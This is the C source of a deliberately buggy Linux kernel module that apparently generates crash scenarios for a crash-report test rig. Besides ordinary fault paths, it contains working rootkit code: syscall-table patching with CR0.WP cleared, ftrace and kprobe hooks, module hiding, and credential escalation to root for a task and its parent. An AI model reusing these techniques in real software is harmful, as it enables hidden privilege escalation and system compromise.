// SPDX-License-Identifier: GPL-2.0
/*
 * vrbug: a deliberately buggy driver for the vmreport crash rig.
 *
 * Writing a command to /proc/vrbug takes one bug path, so that one module
 * build serves every scenario:
 *
 *   null        read through a NULL struct pointer (fault address 0x10)
 *   bug         BUG_ON() on a condition that holds
 *   gpf         read through a LIST_POISON1-like non-canonical pointer
 *   warn        WARN_ON() (panics with panic_on_warn=1)
 *   softlockup  spin with preemption disabled (softlockup_panic=1)
 *   hungtask    block in mutex_lock() on a mutex a kthread holds forever
 *   busy N      start a kthread bound to CPU N spinning in vrbug_spin(),
 *               return once it spins (the caller then crashes elsewhere)
 *   tailcall    print a poisoned string from a helper whose last act is the
 *               printk (a tail call: "jmp _printk"), so that the helper has
 *               no frame of its own and printk faults in string()
 *   rootkit     behave like a simple rootkit: find kallsyms_lookup_name
 *               through a kprobe, point sys_call_table[__NR_kill] at a
 *               function of this module (writing the read-only table with
 *               CR0.WP cleared), hook __x64_sys_kill through ftrace, leave
 *               a kprobe on commit_creds, and take the module off the
 *               module list
 *   rootkit-crash  (from an unprivileged task) give the writer root
 *               credentials the way such rootkits do (ids written into a
 *               copy of its credentials) and its parent the kernel's own
 *               init_cred, clear CR0.WP and crash on a NULL pointer, as the
 *               rootkit's own code
 *
 * Every path sits in its own function that the compiler may neither inline
 * nor clone (noipa: no .isra/.constprop copies), so backtraces name it as
 * written here.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/proc_fs.h>
#include <linux/uaccess.h>
#include <linux/mutex.h>
#include <linux/kthread.h>
#include <linux/completion.h>
#include <linux/delay.h>
#include <linux/sched.h>
#include <linux/string.h>
#include <linux/version.h>
#include <linux/kprobes.h>
#include <linux/ftrace.h>
#include <linux/cred.h>
#include <asm/unistd.h>
#include <asm/processor-flags.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("deliberately buggy module for the vmreport crash rig");
MODULE_VERSION("1.0");

struct vrbug_obj {
	unsigned long magic;
	unsigned long flags;
	unsigned long value;	/* offset 0x10: the faulting address of "null" */
	struct list_head node;
};

/*
 * Pointers read with READ_ONCE() so the compiler cannot see the bad value
 * and turn the access into a trap or drop it.
 */
#define VRBUG_PATH noinline __attribute__((__noipa__))

static struct vrbug_obj *vrbug_current;
static struct vrbug_obj *vrbug_poisoned = (struct vrbug_obj *)0xdead000000000100UL;
static const char *vrbug_name = (const char *)0xdead000000000122UL;

static DEFINE_MUTEX(vrbug_lock);
static DECLARE_COMPLETION(vrbug_holder_ready);
static DECLARE_COMPLETION(vrbug_spinner_ready);
static int vrbug_spin_forever = 1;

static VRBUG_PATH unsigned long vrbug_null_deref(void)
{
	struct vrbug_obj *obj = READ_ONCE(vrbug_current);

	pr_info("vrbug: reading value of object %px\n", obj);
	return READ_ONCE(obj->value);
}

static VRBUG_PATH void vrbug_bug_on(void)
{
	int refs = READ_ONCE(vrbug_spin_forever) - 1;

	pr_info("vrbug: checking refcount %d\n", refs);
	BUG_ON(refs == 0);
}

static VRBUG_PATH unsigned long vrbug_gpf(void)
{
	struct vrbug_obj *obj = READ_ONCE(vrbug_poisoned);

	pr_info("vrbug: walking to object at %px\n", obj);
	return READ_ONCE(obj->flags);
}

static VRBUG_PATH void vrbug_warn(void)
{
	int state = READ_ONCE(vrbug_spin_forever);

	pr_info("vrbug: checking state %d\n", state);
	WARN_ON(state != 0);
}

/* Its last statement is the call: the compiler ends the function with a
 * jump to _printk, and the GPF in vsprintf's string() unwinds straight
 * from _printk to vrbug_write. */
static VRBUG_PATH void vrbug_tailcall(void)
{
	const char *name = READ_ONCE(vrbug_name);

	printk(KERN_INFO "vrbug: object %s\n", name);
}

static VRBUG_PATH void vrbug_softlockup(void)
{
	pr_info("vrbug: spinning with preemption disabled\n");
	preempt_disable();
	while (READ_ONCE(vrbug_spin_forever))
		cpu_relax();
	preempt_enable();
}

static int vrbug_holder(void *unused)
{
	mutex_lock(&vrbug_lock);
	complete(&vrbug_holder_ready);
	/* Hold the mutex forever, sleeping interruptibly (not itself hung). */
	while (!kthread_should_stop())
		msleep_interruptible(1000);
	mutex_unlock(&vrbug_lock);
	return 0;
}

static VRBUG_PATH void vrbug_hungtask(void)
{
	struct task_struct *t;

	t = kthread_run(vrbug_holder, NULL, "vrbug_holder");
	if (IS_ERR(t)) {
		pr_err("vrbug: cannot start holder: %ld\n", PTR_ERR(t));
		return;
	}
	wait_for_completion(&vrbug_holder_ready);
	pr_info("vrbug: taking the lock the holder keeps\n");
	mutex_lock(&vrbug_lock);	/* blocks in D state */
	mutex_unlock(&vrbug_lock);
}

/* Global, so it is a plain "T" symbol like most driver entry points. */
void vrbug_spin(void);

VRBUG_PATH void vrbug_spin(void)
{
	preempt_disable();
	complete(&vrbug_spinner_ready);
	while (READ_ONCE(vrbug_spin_forever))
		cpu_relax();
	preempt_enable();
}

static int vrbug_spinner(void *unused)
{
	vrbug_spin();
	return 0;
}

static VRBUG_PATH int vrbug_busy(unsigned int cpu)
{
	struct task_struct *t;

	if (cpu >= nr_cpu_ids || !cpu_online(cpu))
		return -EINVAL;
	t = kthread_create(vrbug_spinner, NULL, "vrbug_spin/%u", cpu);
	if (IS_ERR(t))
		return PTR_ERR(t);
	kthread_bind(t, cpu);
	wake_up_process(t);
	wait_for_completion(&vrbug_spinner_ready);
	pr_info("vrbug: CPU %u spins in vrbug_spin\n", cpu);
	return 0;
}

/*
 * The rootkit scenario. The kernel exports none of what a rootkit needs
 * since 5.7, so it finds kallsyms_lookup_name the way they do: the address
 * a kprobe on it resolves to.
 */
typedef unsigned long (*vrbug_lookup_t)(const char *name);

static vrbug_lookup_t vrbug_find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	vrbug_lookup_t fn;

	if (register_kprobe(&kp))
		return NULL;
	fn = (vrbug_lookup_t)kp.addr;
	unregister_kprobe(&kp);
	return fn;
}

/* CR0.WP written directly, past native_write_cr0()'s pinning. */
static inline void vrbug_wp(bool on)
{
	unsigned long cr0;

	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	if (on)
		cr0 |= X86_CR0_WP;
	else
		cr0 &= ~X86_CR0_WP;
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

/* What sys_call_table[__NR_kill] points to afterwards. */
static VRBUG_PATH long vrbug_hooked_kill(const struct pt_regs *regs)
{
	return -EPERM;
}

static unsigned long vrbug_hook_calls;

#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 11, 0)
static void notrace vrbug_ftrace_thunk(unsigned long ip, unsigned long parent_ip,
				       struct ftrace_ops *op, struct ftrace_regs *fregs)
#else
static void notrace vrbug_ftrace_thunk(unsigned long ip, unsigned long parent_ip,
				       struct ftrace_ops *op, struct pt_regs *regs)
#endif
{
	vrbug_hook_calls++;
}

static struct ftrace_ops vrbug_ftrace_ops = {
	.func = vrbug_ftrace_thunk,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
};

static int vrbug_creds_pre(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe vrbug_creds_probe = {
	.symbol_name = "commit_creds",
	.pre_handler = vrbug_creds_pre,
};

static VRBUG_PATH int vrbug_rootkit(void)
{
	vrbug_lookup_t lookup = vrbug_find_lookup();
	unsigned long *table;
	int err;

	if (!lookup)
		return -ENOENT;
	table = (unsigned long *)lookup("sys_call_table");
	if (!table)
		return -ENOENT;
	preempt_disable();
	vrbug_wp(false);
	WRITE_ONCE(table[__NR_kill], (unsigned long)vrbug_hooked_kill);
	vrbug_wp(true);
	preempt_enable();
	err = ftrace_set_filter(&vrbug_ftrace_ops, (unsigned char *)"__x64_sys_kill",
				strlen("__x64_sys_kill"), 0);
	if (!err)
		err = register_ftrace_function(&vrbug_ftrace_ops);
	if (err)
		return err;
	err = register_kprobe(&vrbug_creds_probe);
	if (err)
		return err;
	list_del(&THIS_MODULE->list);
	pr_info("vrbug: rootkit installed: sys_call_table[%d], __x64_sys_kill hooked, hidden\n",
		__NR_kill);
	return 0;
}

static VRBUG_PATH unsigned long vrbug_rootkit_crash(void)
{
	struct cred *cred = prepare_creds();
	struct vrbug_obj *obj = READ_ONCE(vrbug_current);
	vrbug_lookup_t lookup = vrbug_find_lookup();
	const struct cred *init = lookup ? (const struct cred *)lookup("init_cred") : NULL;
	struct task_struct *parent;

	if (!cred || !init)
		return 0;
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	cred->gid = cred->egid = cred->sgid = cred->fsgid = GLOBAL_ROOT_GID;
	commit_creds(cred);
	/* The parent shell is handed the kernel's own credentials, as
	 * exploits that end in commit_creds(&init_cred) do to their task. */
	rcu_read_lock();
	parent = rcu_dereference(current->real_parent);
	get_cred(init);
	get_cred(init);
	rcu_assign_pointer(parent->real_cred, init);
	rcu_assign_pointer(parent->cred, init);
	rcu_read_unlock();
	pr_info("vrbug: pid %d and its parent are root now; patching with CR0.WP off\n",
		task_pid_nr(current));
	vrbug_wp(false);
	return READ_ONCE(obj->value);
}

static ssize_t vrbug_write(struct file *file, const char __user *ubuf,
			   size_t len, loff_t *ppos)
{
	char cmd[32];
	size_t n = min(len, sizeof(cmd) - 1);
	unsigned int cpu;

	if (copy_from_user(cmd, ubuf, n))
		return -EFAULT;
	cmd[n] = '\0';
	strim(cmd);

	if (!strcmp(cmd, "null"))
		vrbug_null_deref();
	else if (!strcmp(cmd, "bug"))
		vrbug_bug_on();
	else if (!strcmp(cmd, "gpf"))
		vrbug_gpf();
	else if (!strcmp(cmd, "warn"))
		vrbug_warn();
	else if (!strcmp(cmd, "softlockup"))
		vrbug_softlockup();
	else if (!strcmp(cmd, "hungtask"))
		vrbug_hungtask();
	else if (!strcmp(cmd, "tailcall"))
		vrbug_tailcall();
	else if (!strcmp(cmd, "rootkit")) {
		int err = vrbug_rootkit();

		if (err)
			return err;
	} else if (!strcmp(cmd, "rootkit-crash"))
		vrbug_rootkit_crash();
	else if (sscanf(cmd, "busy %u", &cpu) == 1) {
		int err = vrbug_busy(cpu);

		if (err)
			return err;
	} else
		return -EINVAL;
	return len;
}

static const struct proc_ops vrbug_proc_ops = {
	.proc_write = vrbug_write,
};

static int __init vrbug_init(void)
{
	if (!proc_create("vrbug", 0200, NULL, &vrbug_proc_ops))
		return -ENOMEM;
	pr_info("vrbug: loaded; write a bug path to /proc/vrbug\n");
	return 0;
}

static void __exit vrbug_exit(void)
{
	remove_proc_entry("vrbug", NULL);
}

module_init(vrbug_init);
module_exit(vrbug_exit);
